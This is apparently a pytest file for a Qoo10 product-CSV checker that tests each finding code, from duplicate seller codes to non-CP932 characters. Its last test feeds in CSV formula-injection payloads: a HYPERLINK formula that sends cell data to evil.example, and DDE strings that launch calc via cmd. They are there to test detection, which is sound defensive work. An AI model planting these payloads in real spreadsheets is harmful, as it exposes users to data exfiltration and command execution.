"""check-products: every finding code on a small fixture, and the rules kept as data."""

from __future__ import annotations

import csv
from pathlib import Path

import peewee
import pytest
from products_fixtures import goods_file, goods_row, inventory_file, option_row

from qsm_desktop.core.products.checks import (
    Finding,
    check_products,
    has_errors,
)
from qsm_desktop.core.products.importer import (
    import_files,
)
from qsm_desktop.core.products.rules import load_rules
from qsm_desktop.resources import load_json

CODES = {
    "code-exponent",
    "code-date",
    "code-zeros-lost",
    "paren-in-name",
    "missing-seller-code",
    "duplicate-code",
    "end-date-too-late",
    "not-cp932",
    "orphan-option",
    "qty-mismatch",
    "additional-option-code",
    "formula-cell",
}


def _import(tmp_path: Path, goods: list[list[str]], options: list[list[str]]) -> None:
    import_files(
        [
            goods_file(tmp_path / "GoodsList.csv", *goods, encoding="utf-8"),
            inventory_file(
                tmp_path / "InventoryManagement_gridInventory.csv", *options, encoding="utf-8"
            ),
        ]
    )


def _by_code(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.code, []).append(f)
    return out


def test_clean_files_have_no_findings(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
    _import(
        tmp_path,
        [goods_row("100", quantity="9"), goods_row("200", "SC-200", quantity="3")],
        [
            option_row("100", detail1="赤", quantity="4", option_code="A"),
            option_row("100", detail1="青", quantity="5", option_code="B"),
            option_row(
                "100", data_type="追加型", option1="ギフト包装", detail1="あり", option_code=""
            ),
        ],
    )
    assert check_products() == []


def test_every_finding_code(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
    goods = [
        goods_row("100", "SC-100", "長袖Tシャツ(キッズ用)", quantity="10"),  # line 2
        goods_row("101", "", "名前〜", end_date="2031/01/01 00:00"),  # line 3
        goods_row("102", "SC-100", end_date="2030/12/31 23:59"),  # line 4: limit itself is fine
        goods_row("102", "SC-102"),  # line 5: 商品番号 twice
    ]
    options = [
        option_row("100", detail1="赤", quantity="4", option_code="OPT-1"),  # line 2
        option_row("100", detail1="青(濃)", quantity="5", option_code="OPT-2"),  # line 3
        option_row("100", data_type="追加型", detail1="あり", option_code="GIFT"),  # line 4
        option_row("999", "SC-999", option_code="OPT-1"),  # line 5: orphan, code clash
        option_row("999", "SC-999", detail2="=1+1", option_code="OPT-9"),  # line 6: formula
    ]
    _import(tmp_path, goods, options)
    findings = check_products()
    found = _by_code(findings)
    assert set(found) == CODES - {
        "code-exponent",
        "code-date",
        "code-zeros-lost",
    }  # tested in test_products_damage.py
    assert has_errors(findings)
    where = {code: [(f.file, f.line, f.column, f.value) for f in fs] for code, fs in found.items()}
    goods_file_name = "GoodsList.csv"
    inv = "InventoryManagement_gridInventory.csv"
    assert where["paren-in-name"] == [
        (goods_file_name, 2, "商品名", "長袖Tシャツ(キッズ用)"),
        (inv, 3, "詳細1", "青(濃)"),
    ]
    assert where["missing-seller-code"] == [(goods_file_name, 3, "販売者コード", "101")]
    assert where["end-date-too-late"] == [(goods_file_name, 3, "終了日", "2031/01/01 00:00")]
    assert where["not-cp932"] == [(goods_file_name, 3, "商品名", "名前〜")]
    assert where["duplicate-code"] == [
        (goods_file_name, 4, "販売者コード", "SC-100"),
        (goods_file_name, 5, "商品番号", "102"),
        (inv, 5, "オプションコード", "OPT-1"),
    ]
    assert where["qty-mismatch"] == [(goods_file_name, 2, "数量", "10")]
    assert where["orphan-option"] == [(inv, 5, "商品番号", "999")]
    assert where["additional-option-code"] == [(inv, 4, "オプションコード", "GIFT")]
    assert where["formula-cell"] == [(inv, 6, "詳細2", "=1+1")]
    qty = found["qty-mismatch"][0]
    assert "9" in qty.message and qty.severity == "warning"
    assert "2行目" in found["duplicate-code"][2].message
    assert "2行" in found["orphan-option"][0].message
    assert "～" in found["not-cp932"][0].message  # the suggested replacement
    for f in findings:
        assert f.source and f.message and f.severity in ("error", "warning")
        assert f.to_json()["severity_label"] in ("エラー", "警告")
    assert [f.kind for f in findings] == sorted(
        (f.kind for f in findings), key="goods inventory".index
    )


def test_severities_come_from_the_rules(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
    _import(tmp_path, [goods_row(seller_code="")], [option_row(quantity="9")])
    findings = check_products()
    assert [(f.code, f.severity) for f in findings] == [("missing-seller-code", "warning")]
    assert not has_errors(findings)


def test_seller_code_clash_between_the_files(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
    _import(
        tmp_path,
        [goods_row("100", "SC-1", quantity="")],
        [option_row("200", "SC-1", option_code="A"), option_row("200", "SC-1", option_code="B")],
    )
    dup = [f for f in check_products() if f.code == "duplicate-code"]
    assert [(f.line, f.value, f.item_no) for f in dup] == [(2, "SC-1", "200")]  # once per product


def test_same_option_code_twice_in_one_product(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
    _import(
        tmp_path,
        [goods_row(quantity="")],
        [option_row(option_code="A"), option_row(detail1="青", option_code="A")],
    )
    (dup,) = [f for f in check_products() if f.code == "duplicate-code"]
    assert dup.line == 3 and "同じ商品" in dup.message


def test_without_goods_list_no_cross_file_findings(
    db: peewee.SqliteDatabase, tmp_path: Path
) -> None:
    import_files([inventory_file(tmp_path / "inv.csv", option_row("999"))])
    assert check_products() == []


def test_nothing_imported(db: peewee.SqliteDatabase) -> None:
    assert check_products() == []


def test_rules_are_data_with_sources() -> None:
    data = load_json("product_rules.json")
    assert {r["code"] for r in data["rules"]} == CODES
    rules = load_rules()
    for code in CODES:
        rule = rules[code]
        assert rule.source.strip() and rule.title and rule.message
        assert rule.severity in ("error", "warning")
    assert rules["missing-seller-code"].severity == "warning"
    assert "4588" in rules["paren-in-name"].source  # NextEngine's Qoo10 stock-sync notes
    assert str(rules.end_date_limit) == "2030-12-31 23:59:00"


@pytest.mark.parametrize("marker", ["追加型", "追加型オプション", "単一型"])
def test_additional_option_markers(db: peewee.SqliteDatabase, tmp_path: Path, marker: str) -> None:
    _import(tmp_path, [goods_row(quantity="")], [option_row(data_type=marker, option_code="X")])
    assert [f.code for f in check_products()] == ["additional-option-code"]


@pytest.mark.parametrize(
    ("cell", "start"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"詳細")', "="),
        ("+cmd|' /C calc'!A0", "+"),
        ("-2+3+cmd|' /C calc'!A0", "-"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "@"),
        ("\t=1+1", "TAB"),
        ("\r=1+1", "CR"),
    ],
)
def test_formula_cells_are_reported_per_cell_and_kept_exactly(
    db: peewee.SqliteDatabase, tmp_path: Path, cell: str, start: str
) -> None:
    from qsm_desktop.core.products.columns import (
        GOODS,
    )
    from qsm_desktop.core.products.export import (
        export_sjis,
    )

    goods = [goods_row("100", "SC-100", shipping_fee="-100"), goods_row("101", "SC-101")]
    goods[1][1] = cell  # 販売者コード
    _import(tmp_path, goods, [option_row("100")])
    found = _by_code(check_products())["formula-cell"]
    assert [(f.line, f.column, f.value, f.severity) for f in found] == [
        (3, "販売者コード", cell, "warning")
    ]  # -100 is a number, not a formula
    assert f"「{start}」で始まる" in found[0].message
    out = tmp_path / "out.csv"
    export_sjis(GOODS, out)  # a file for Qoo10 / the services: the value goes out unchanged
    with out.open(encoding="cp932", newline="") as handle:
        assert list(csv.reader(handle))[2][1] == cell
